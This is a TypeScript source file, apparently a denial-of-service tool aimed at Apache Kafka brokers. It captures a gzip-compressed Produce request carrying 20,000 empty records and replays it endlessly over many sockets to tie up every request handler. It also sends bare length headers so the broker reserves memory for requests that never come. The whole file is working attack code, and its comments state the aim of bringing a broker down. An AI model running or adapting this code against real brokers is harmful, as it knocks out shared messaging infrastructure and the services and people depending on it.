/** What brings a broker down to its knees: more requests than its threads can answer, and memory that is asked for at once. */
import { connect, type Socket } from 'node:net';
import { CompressionTypes, Kafka, logLevel, type ISocketFactory } from 'kafkajs';

const PRODUCE = 0;
/** Few bytes to send, many records to check. */
const RECORDS = 20_000;

const address = (broker: string) => {
  const [host, port] = broker.split(':');
  return { host, port: Number(port) };
};

/** The bytes of one Produce request, as a client sends them. */
async function produceRequest(broker: string, topic: string): Promise<Buffer> {
  const requests: Buffer[] = [];
  const socketFactory: ISocketFactory = ({ host, port, onConnect }) => {
    const socket = connect({ host, port }, onConnect);
    const write = socket.write.bind(socket) as (bytes: Buffer) => boolean;
    return Object.assign(socket, { write: (bytes: Buffer) => (requests.push(bytes), write(bytes)) });
  };
  const producer = new Kafka({ brokers: [broker], logLevel: logLevel.NOTHING, socketFactory }).producer();
  await producer.connect();
  try {
    const messages = Array.from({ length: RECORDS }, () => ({ value: '' }));
    await producer.send({ topic, acks: 1, compression: CompressionTypes.GZIP, messages });
  } finally {
    await producer.disconnect();
  }
  // After four bytes of length comes the kind of request.
  return requests.find((bytes) => bytes.readInt16BE(4) === PRODUCE)!;
}

/** Keeps all request handlers of a broker busy: the same batch again and again, on so many connections. */
export async function flood(broker: string, topic: string, connections: number): Promise<() => void> {
  const request = await produceRequest(broker, topic);
  const sockets = Array.from({ length: connections }, () => {
    const socket = connect(address(broker));
    const send = () => {
      while (!socket.destroyed && socket.write(request));
    };
    socket
      .on('error', () => undefined)
      .on('drain', send)
      .on('connect', send);
    return socket.resume();
  });
  return () => sockets.forEach((socket) => socket.destroy());
}

/** Announces requests that never come: a broker sets their memory aside before the first byte. */
export function announce(broker: string, bytes: number): Socket {
  const socket = connect(address(broker));
  const header = Buffer.alloc(4);
  header.writeInt32BE(bytes);
  socket.on('error', () => undefined).write(header);
  return socket;
}
